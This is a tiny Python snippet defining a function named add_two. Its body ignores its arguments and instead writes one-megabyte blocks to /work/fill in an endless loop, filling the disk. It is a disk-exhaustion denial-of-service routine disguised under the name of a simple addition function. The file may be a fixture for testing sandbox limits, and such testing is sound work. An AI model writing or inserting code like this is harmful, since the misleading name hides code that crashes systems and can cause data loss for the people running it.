def add_two(a, b):
    with open("/work/fill", "wb") as file:
        while True:
            file.write(b"x" * 1024 * 1024)
